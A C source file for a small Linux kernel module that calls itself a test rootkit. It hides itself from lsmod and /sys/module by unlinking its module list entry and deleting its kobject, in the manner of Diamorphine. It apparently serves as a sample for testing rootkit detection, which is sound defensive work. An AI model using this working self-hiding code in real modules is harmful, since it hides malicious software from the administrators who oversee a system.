// Test rootkit: hides itself from lsmod (/proc/modules: the `modules` list) and
// from /sys/module (its kobject in module_kset), as Diamorphine and its kind do.
#include <linux/kobject.h>
#include <linux/list.h>
#include <linux/module.h>

static int __init hide_module_init(void) {
  list_del_init(&THIS_MODULE->list);
  kobject_del(&THIS_MODULE->mkobj.kobj);
  pr_info("nfm_rk_hide_module: hidden\n");
  return 0;
}

module_init(hide_module_init);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("nfm test rootkit: module self-hiding");
